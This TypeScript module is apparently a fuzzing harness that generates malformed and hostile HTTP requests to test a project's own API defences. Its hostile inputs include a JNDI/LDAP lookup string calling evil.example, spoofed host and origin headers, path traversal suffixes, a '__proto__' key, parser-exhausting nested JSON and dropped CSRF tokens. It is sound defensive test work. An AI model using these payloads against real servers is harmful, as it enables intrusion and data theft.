/** Whole requests: address, query, headers and body; most nearly right, so that they get far before they are refused. */
import { digestOf } from '../../../src/server/secrets.ts'
import type { Draw } from './draw.ts'
import { rightValue, type Source, spoiled } from './made-values.ts'
import type { Operation, Parameter } from './operations.ts'
import type { Visitor } from './visitors.ts'

/** One request. */
export interface MadeRequest {
  readonly operation: Operation
  readonly visitor: Visitor
  readonly method: string
  readonly url: string
  readonly headers: Readonly<Record<string, string>>
  readonly payload: string | Buffer | null
  /** It says of itself that it comes from elsewhere, or has not the session's token: no change may be made by it. */
  readonly crossSite: boolean
}

/** Values that are wrong in a header of that name, or in any. */
const STRANGE_HEADERS: readonly (readonly [string, string])[] = [
  ['if-match', '"0123456789abcdefghijklmnopq"'],
  ['if-match', '*'],
  ['if-unmodified-since', 'Thu, 01 Jan 2026 00:00:00 GMT'],
  ['if-none-match', '*'],
  ['if-none-match', 'W/"x", "y", ,'],
  ['last-event-id', '-1'],
  ['last-event-id', '9'.repeat(40)],
  ['x-forwarded-for', '127.0.0.1'],
  ['x-forwarded-host', 'evil.example'],
  ['x-http-method-override', 'DELETE'],
  ['x-original-url', '/api/people'],
  ['accept', 'text/html;q=0.1, application/xml'],
  ['accept', 'text/event-stream'],
  ['accept-encoding', 'br;q=1.0, zstd'],
  ['range', 'bytes=0-1'],
  ['content-encoding', 'gzip'],
  ['x-request-id', '%{jndi:ldap://evil.example/a}'],
  ['traceparent', '00-0-0-00'],
  ['prefer', 'return=minimal'],
]

const TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/json;charset=utf-8;charset=x',
  'application/problem+json',
  'application/json, text/plain',
  'APPLICATION/JSON',
  '/',
  'application/json\u00a0',
  '',
]

/** Draws one. Keys that were used are given by `usedKeys` and are used again now and then. */
export async function madeRequest(
  source: Source,
  of: { readonly operation: Operation; readonly visitor: Visitor; readonly usedKeys: readonly string[] },
): Promise<MadeRequest> {
  const { draw } = source
  const { operation, visitor } = of
  const fitting = draw.chance(0.6) ? await source.known.fitting(draw, operation) : null
  const path = filledPath(source, of, fitting?.path ?? operation.path)
  const query = queryOf(source, operation)
  const right = fitting?.body ?? (operation.body === null ? null : rightValue(source, operation.body, 'body'))
  const payload = payloadOf(draw, right)
  const { headers, crossSite } = headersOf(draw, of, payload !== null)
  return {
    operation,
    visitor,
    method: draw.chance(0.01) ? draw.pick(['PATCH', 'OPTIONS', 'HEAD', 'TRACE', 'SEARCH']) : operation.method,
    url: `${path}${query === '' ? '' : '?'}${query}`,
    headers,
    payload,
    crossSite,
  }
}

const PLACE = /\{(\w+)\}/g

function filledPath(
  source: Source,
  { operation, visitor }: { readonly operation: Operation; readonly visitor: Visitor },
  path: string,
): string {
  const { draw } = source
  const filled = path.replace(PLACE, (_whole, name: string) => {
    const parameter = operation.parameters.find((each) => each.in === 'path' && each.name === name)
    if (parameter === undefined || draw.chance(0.15)) return draw.chance(0.3) ? '%' : encoded(draw.hostile())
    if (name === 'sessionDigest' && visitor.secret !== null) return digestOf(visitor.secret)
    return encoded(String(rightValue(source, parameter.schema, name)))
  })
  if (draw.chance(0.98)) return filled
  return draw.pick([
    `${filled}/`,
    `/${filled}`,
    `${filled}%2e%2e/`,
    `${filled};a=b`,
    filled.toUpperCase(),
    `${filled}/..%2f`,
  ])
}

function queryOf(source: Source, operation: Operation): string {
  const { draw } = source
  const parameters = operation.parameters.filter((each) => each.in === 'query')
  const pairs = parameters.flatMap((parameter) => pairsOf(source, parameter))
  if (draw.chance(0.04))
    pairs.push(`${encoded(draw.pick(['other', '__proto__', 'limit[]', 'sort']))}=${encoded(draw.hostile())}`)
  if (draw.chance(0.01)) pairs.push(draw.pick(['&&==', '%', '=', '?a=b', '%ff=%fe']))
  return pairs.join('&')
}

function pairsOf(source: Source, { name, schema, description }: Parameter): readonly string[] {
  const { draw } = source
  if (name === 'workspace' ? draw.chance(0.7) : draw.chance(0.6)) return []
  const words = description === undefined ? schema : { ...schema, description }
  const pair = (): string =>
    `${name}=${encoded(draw.chance(0.12) ? draw.hostile() : String(rightValue(source, words, name)))}`
  return draw.chance(0.02) ? [pair(), pair()] : [pair()]
}

const encoded = (text: string): string => encodeURIComponent(text.toWellFormed())

/** Null: nothing is sent. */
function payloadOf(draw: Draw, right: unknown): string | Buffer | null {
  if (right === null) return draw.chance(0.05) ? JSON.stringify(draw.anything()) : null
  const text = JSON.stringify(right)
  return draw.weighted<() => string | Buffer | null>([
    [12, () => text],
    [8, () => JSON.stringify(spoiled(draw, right)) ?? 'null'],
    [2, () => JSON.stringify(draw.anything()) ?? 'null'],
    [2, () => brokenText(draw, text)],
    [0.5, () => null],
  ])()
}

/** Text that is no JSON, or such that parsers differ on. */
const brokenText = (draw: Draw, text: string): string | Buffer =>
  draw.weighted<() => string | Buffer>([
    [3, () => text.slice(0, draw.int(0, text.length - 1))],
    [
      2,
      () =>
        `${text.slice(0, draw.int(0, text.length))}${draw.garbage(5)}${text.slice(draw.int(0, text.length))}`,
    ],
    [1, () => `\ufeff${text}`],
    [1, () => `${text}${text}`],
    [1, () => text.replaceAll('"', "'")],
    [1, () => text.replace('}', ',}')],
    [1, () => text.replace('{', '{"reason":"first","reason":2,')],
    [1, () => `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
    [1, () => `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`],
    [1, () => JSON.stringify({ reason: 'x'.repeat(70_000) })],
    [1, () => Buffer.from(text, 'utf16le')],
    [1, () => Buffer.concat([Buffer.from(text.slice(0, -1)), Buffer.from([0xc3, 0x28, 0xff, 0x7d])])],
  ])()

function headersOf(
  draw: Draw,
  of: { readonly operation: Operation; readonly visitor: Visitor; readonly usedKeys: readonly string[] },
  hasBody: boolean,
): { readonly headers: Record<string, string>; readonly crossSite: boolean } {
  const headers: Record<string, string> = { ...of.visitor.headers }
  if (hasBody) headers['content-type'] = draw.chance(0.95) ? 'application/json' : draw.pick(TYPES)
  if (of.operation.keyed && draw.chance(0.97)) headers['idempotency-key'] = keyOf(draw, of.usedKeys)
  if (draw.chance(0.1)) {
    const [name, value] = draw.pick(STRANGE_HEADERS)
    headers[name] = value
  }
  if (draw.chance(0.01))
    headers['host'] = draw.pick(['evil.example', 'localhost.evil.example', '127.0.0.1:99999', ''])
  const crossSite = draw.chance(0.05)
  if (crossSite) comeFromElsewhere(draw, headers)
  return { headers, crossSite }
}

const keyOf = (draw: Draw, used: readonly string[]): string =>
  draw.weighted<() => string>([
    [10, () => `key-${draw.hex(24)}`],
    [1, () => (used.length === 0 ? draw.hex(16) : draw.pick(used))],
    [0.5, () => draw.pick(['short', 'x'.repeat(101), 'with blanks in it, and long', '\u00e9'.repeat(20)])],
  ])()

/** As a page of another site would make a browser send it. */
function comeFromElsewhere(draw: Draw, headers: Record<string, string>): void {
  const ways: readonly (() => void)[] = [
    () => {
      headers['origin'] = draw.pick(['https://evil.example', 'null', 'http://127.0.0.1.evil.example'])
    },
    () => {
      headers['sec-fetch-site'] = draw.pick(['cross-site', 'same-site'])
    },
  ]
  draw.pick(ways)()
  if (headers['cookie'] !== undefined && draw.chance(0.5)) delete headers['x-csrf-token']
}
